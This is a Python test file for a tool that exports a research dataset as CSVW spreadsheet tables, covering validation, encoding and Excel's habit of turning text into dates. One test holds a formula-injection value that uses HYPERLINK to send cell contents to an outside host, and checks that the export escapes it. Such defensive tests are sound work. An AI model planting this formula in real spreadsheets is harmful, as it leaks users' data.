"""The tables for spreadsheets: safe to open, described, leading back to the data."""

from __future__ import annotations

import csv
import json
import re
import shutil
from io import BytesIO, StringIO
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from csvw import CSVW
from pyoxigraph import Literal, NamedNode, Quad, Store

from daap.core.namespaces import DAAP, DCT, OA, PROV
from daap.query.question import read_questions
from daap.tables.sheets import SHEETS
from daap.tables.spreadsheets import spreadsheet_files
from daap.tables.workbook import Book

BASE = "https://w3id.org/daap/"
FORMULA = tuple("=+-@\t\r\n")


def read(path: Path) -> list[dict[str, str]]:
    """The rows of a table."""
    with path.open(encoding="utf-8", newline="") as content:
        return list(csv.DictReader(content))


def described(dist: Path) -> dict[str, dict[str, Any]]:
    """The description of each table, by its file."""
    content = json.loads((dist / "tables" / "csv-metadata.json").read_bytes())
    return {table["url"]: table for table in content["tables"]}


def expanded(template: str, cells: dict[str, str]) -> str:
    """A URI template with the cells of a row (RFC 6570, level 1)."""
    return re.sub(r"\{(\w+)\}", lambda m: quote(cells[m[1]], safe=""), template)


@pytest.mark.parametrize(
    "name", ["csv-metadata.json", *(f"{s.name}.csv" for s in SHEETS)]
)
def test_an_independent_validator_accepts_the_tables(dist: Path, name: str) -> None:
    assert CSVW(str(dist / "tables" / name), validate=True).is_valid


def test_the_validator_notices_a_code_that_is_not_there(
    dist: Path, tmp_path: Path
) -> None:
    folder = Path(shutil.copytree(dist / "tables", tmp_path / "tables"))
    path = folder / "options.csv"
    path.write_text(path.read_text().replace(",control_plane,", ",no_such_code,"))
    with pytest.raises(ValueError, match="no_such_code"):
        _ = CSVW(str(folder / "csv-metadata.json"), validate=True).is_valid


@pytest.mark.parametrize("sheet", SHEETS, ids=lambda s: s.name)
def test_every_row_and_cell_leads_to_a_resource_of_the_dataset(
    dist: Path, store: Store, sheet: Any
) -> None:
    table = described(dist)[f"{sheet.name}.csv"]
    known = {
        quad.subject.value for quad in store if isinstance(quad.subject, NamedNode)
    }
    rows = read(dist / "tables" / f"{sheet.name}.csv")
    assert rows
    for row in rows:
        assert expanded(table["tableSchema"]["aboutUrl"], row) in known
        for column in table["tableSchema"]["columns"]:
            if "valueUrl" in column and row[column["name"]]:
                assert expanded(column["valueUrl"], row) in known


@pytest.mark.parametrize(
    ("name", "rows"),
    [("quotes", 20), ("codes", 203), ("attributions", 1351), ("options", 35)],
)
def test_a_table_holds_a_row_for_each_resource(
    dist: Path, name: str, rows: int
) -> None:
    assert len(read(dist / "tables" / f"{name}.csv")) == rows


def test_a_quote_stands_with_its_speaker_and_its_place(dist: Path) -> None:
    rows = read(dist / "tables" / "quotes.csv")
    (row,) = (r for r in rows if (r["step"], r["note"]) == ("10", "2"))
    assert row["source"] == "p4"
    assert (row["anchoring"], row["speaker"]) == ("Exact", "Expert E")
    assert row["quote"] == row["text"]
    assert (row["first_line"], row["last_line"]) == ("710", "711")
    assert row["codes"] == "2"


def test_the_tables_are_rfc_4180_in_utf_8(dist: Path) -> None:
    for sheet in SHEETS:
        content = (dist / "tables" / f"{sheet.name}.csv").read_bytes()
        assert content.startswith(",".join(c.name for c in sheet.columns).encode())
        assert content.endswith(b"\r\n")
        assert content.count(b"\r\n") > 1
        content.decode("utf-8")


def test_a_formula_in_a_note_stays_text() -> None:
    hostile = '=HYPERLINK("http://e.org/"&A1;"swarm")\r\n,"\''
    source, step = NamedNode(f"{BASE}source/b1"), NamedNode(f"{BASE}source/b1/step/1")
    note = NamedNode(f"{BASE}source/b1/step/1/note/1")
    kind = NamedNode("http://www.w3.org/1999/02/22-rdf-syntax-ns#type")
    store = Store()
    store.extend(
        Quad(subject, predicate, value)
        for subject, predicate, value in (
            (source, DCT.identifier, Literal("b1")),
            (step, DAAP.position, Literal(1)),
            (step, DAAP.inSource, source),
            (note, kind, DAAP.OpenCode),
            (note, DAAP.position, Literal(1)),
            (note, OA.bodyValue, Literal(hostile)),
            (note, DAAP.firstLine, Literal(3)),
            (note, DAAP.lastLine, Literal(4)),
            (note, DAAP.anchoring, DAAP.Unanchored),
            (note, PROV.wasGeneratedBy, step),
        )
    )
    about = {"title": "T", "licence": "L"}
    out = BytesIO()
    for name, write in spreadsheet_files(store, BASE, about, Book("T", "2026-11-28")):
        if name == "tables/quotes.csv":
            write(out)
    (row,) = csv.DictReader(StringIO(out.getvalue().decode(), newline=""))
    assert row["text"] == "'" + hostile
    assert row["codes"] == "0"


def test_no_cell_of_a_table_holds_several_values(dist: Path) -> None:
    for name, table in described(dist).items():
        assert not any("separator" in c for c in table["tableSchema"]["columns"]), name
    codes = {row["code"] for row in read(dist / "tables" / "codes.csv")}
    sources = {row["id"] for row in read(dist / "tables" / "sources.csv")}
    for path in (dist / "tables").glob("*.csv"):
        for row in read(path):
            for cell in row.values():
                parts = cell.split()
                assert len(parts) < 2 or not codes | sources >= {*parts}, path.name


CHANGED = re.compile(
    r"[1-9]\d{0,3}([-/.])[1-9]\d?(\1\d{1,4})?"  # a date, as 3-5 or 1.2.2026
    r"|\d{1,2}:\d\d.*|0\d+|\d{16,}|\d+(\.\d+)?[eE][-+]?\d+"
)
"""Texts that Excel reads as a date, a time or another number when it opens a CSV."""


def test_no_text_of_a_table_is_turned_to_a_date_or_a_number(dist: Path) -> None:
    assert CHANGED.fullmatch("3-5") and CHANGED.fullmatch("1E2")
    for name, table in described(dist).items():
        columns = table["tableSchema"]["columns"]
        texts = [c["name"] for c in columns if c.get("datatype") == "string"]
        for row in read(dist / "tables" / name):
            turned = [row[text] for text in texts if CHANGED.fullmatch(row[text])]
            assert not turned, f"{name}: {turned}"


@pytest.mark.parametrize("name", ["evidence-for", "quotes-for-term"])
def test_lines_of_the_field_note_are_two_numbers(dist: Path, name: str) -> None:
    columns = described(dist)[f"{name}.csv"]["tableSchema"]["columns"]
    types = {column["name"]: column["datatype"] for column in columns}
    assert (types["firstLine"], types["lastLine"]) == ("integer", "integer")


def test_no_question_joins_values() -> None:
    for question in read_questions().values():
        assert "GROUP_CONCAT" not in question.query.upper(), question.name
